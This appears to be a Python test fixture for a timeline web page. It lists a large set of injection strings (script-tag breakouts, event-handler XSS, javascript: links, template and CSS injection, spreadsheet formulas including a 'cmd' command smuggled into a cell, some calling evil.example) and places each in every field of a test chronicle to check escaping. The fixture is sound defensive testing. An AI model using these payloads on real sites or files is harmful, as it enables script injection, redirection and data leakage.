"""Texts that try to break out of the page, by name; each calls ``hit`` if it runs. And a chronicle with one in every place."""

from __future__ import annotations

import samples
from samples import Maker, day, interval

from timeline.model import Chronicle, Conflict, Dating, Span, TimeExpression, Version

HIT = "window.__hit=1"
PAYLOADS = {
    "script": f"<script>{HIT}</script>",
    "script upper case": f"<SCRIPT>{HIT}</SCRIPT>",
    "script ends": f"</script><script>{HIT}</script>",
    "script ends with space": f"</script ><script>{HIT}</script>",
    "script ends in JSON": f'"}}</script><script>{HIT}//',
    "half a script end": "</scr",
    "comment opens": "<!--",
    "comment opens a script": f"<!--<script>{HIT}",
    "comment ends": f"--><script>{HIT}</script>",
    "CDATA": f"]]><script>{HIT}</script><![CDATA[",
    "style ends": f"</style><script>{HIT}</script>",
    "title ends": f"</title><script>{HIT}</script>",
    "textarea ends": f"</textarea><script>{HIT}</script>",
    "noscript": f"<noscript><p title='</noscript><script>{HIT}</script>'>",
    "image": f"<img src=x onerror={HIT}>",
    "image with slash": f"<img/src=x/onerror={HIT}>",
    "image in quotes": f"\"><img src=x onerror='{HIT}'>",
    "image in single quotes": f'\'><img src=x onerror="{HIT}">',
    "svg": f"<svg onload={HIT}>",
    "svg script": f"<svg><script>{HIT}</script></svg>",
    "svg animation": f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    "iframe": f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    "iframe address": f'<iframe src="javascript:parent.{HIT}">',
    "object": f"<object data='javascript:{HIT}'>",
    "embed": f"<embed src='javascript:{HIT}'>",
    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "base": "<base href='https://evil.example/'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "form": f"<form action='javascript:{HIT}'><button>x</button></form>",
    "details": f"<details open ontoggle={HIT}>",
    "video": f"<video><source onerror={HIT}></video>",
    "body": f"<body onload={HIT}>",
    "focus": f"<input autofocus onfocus={HIT}>",
    "style attribute": "<p style='background:url(https://evil.example/x)'>",
    "style": "<style>*{background:url(https://evil.example/x)!important}</style>",
    "css": "}*{display:none}/*",
    "javascript link": f"javascript:{HIT}",
    "javascript link upper case": f"JaVaScRiPt:{HIT}",
    "javascript link with tab": f"java\tscript:{HIT}",
    "javascript link with newline": f"\njavascript:{HIT}",
    "javascript link in entities": f"&#106;avascript:{HIT}",
    "javascript link behind https": f"https:javascript:{HIT}",
    "data link": f"data:text/html,<script>opener.{HIT}</script>",
    "vbscript link": "vbscript:msgbox(1)",
    "href in a title": f"<a href='javascript:{HIT}'>href</a>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "escapes": f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    "template literal": f"${{{HIT}}}`",
    "jinja": "{{ 7*7 }}{% raw %}{{config}}",
    "own template": "{{script}}{{data}}{{passages}}",
    "angular": f"{{{{constructor.constructor('{HIT}')()}}}}",
    "line separators": f"\u2028{HIT}\u2029//",
    "JSON breaks": '"}],"x":[{"\\',
    "backslashes": "\\\\\\",
    "null and controls": "\x00\x01\x07\x08\x0b\x1b[31m\x7f\x85",
    "byte order marks": "\ufeff\ufffe",
    "lone surrogate": "\ud800 and \udfff",
    "right to left": f"\u202e>tpircs/<{HIT}>tpircs<\u202c",
    "combining": "Z\u0351\u036b\u0343\u036a" * 40,
    "very long word": "A" * 5000,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f",
    "prototype": "__proto__",
    "constructor": "constructor",
    "has own property": "hasOwnProperty",
    "an id of the page": "timeline-view",
    "number": "0",
    "method of all objects": "toString",
    "broken comment end": f"--!><svg onload={HIT}>",
    "unclosed tag": f"<img src=x onerror={HIT} alt=",
    "custom element": f"<x-y onanimationstart={HIT} style=animation-name:x>",
    "use of a data address": "<svg><use href='data:image/svg+xml,<svg id=x><script>hit=1</script></svg>#x'></use></svg>",
    "javascript link with control character": f" \x01javascript:{HIT}",
    "javascript link like the web": f"javascript://https://x.example/%0A{HIT}",
    "link without scheme": "//evil.example/pixel.png",
    "link with a handler": f'https://x.example/"onmouseover="{HIT}"><img src=x onerror={HIT}>',
    "replacement patterns": "$& $1 $` $' $<x> \\1 \\g<0> %s {0}",
    "options of the network": '{"physics": true, "nodes": {"shape": "image", "image": "//evil.example/x"}}',
    "palette": f"red;background:url(javascript:{HIT}) #d8522f expression({HIT})",
    "view of the page": "mode=table&lanes=actor&event=ev_1&from=0&to=1&actor=x&path=y&map-view=1_2_3#%00%zz&amp;",
    "formula of a spreadsheet": '=HYPERLINK("https://evil.example/"&A1)',
    "formula behind a blank": "\u00a0\u200b\t+cmd|' /C calc'!A0",
    "nothing": " ",
}


def chronicle_with(payloads: list[str]) -> Chronicle:
    """An event for each payload, which stands in each of its texts: ids, names, labels, sentences, addresses, dates."""
    make = Maker()
    for number, text in enumerate(payloads):
        sentence = f"{text} struck {text} on Monday."
        make.article(text, [sentence], date=day("2026-01-08"), title=text, url=text, source=text)
        make.article(f"{text} 2", [sentence], date=day("2026-01-09"), title=text, url=f"https://x.example/{text}", source=text)
        make.actor(text, text, text, names=(text,))
        make.place(text, text, kind=text, country=text, lat=1.0 + number, lon=2.0 + number)
        make.event(
            f"{text.replace('/', '|')}/{text.replace('/', '|')}",
            text,
            [(text, sentence, "struck"), (f"{text} 2", sentence, text)],
            [(text, "agent")],
            [text],
            interval(text, "2026-01-05", "2026-01-05"),
            conflicts=(Conflict("place", (Version(text, (text,)), Version(text, (f"{text} 2",)))),),
        )
        about = TimeExpression(Span(0, len(text)), text, "DATE", "", anchor=text, anchor_is="text", rule=text)
        make.events[-1] = samples.replace(make.events[-1], when=Dating(text, about), id=f"{text}-{number}")
    return make.chronicle()
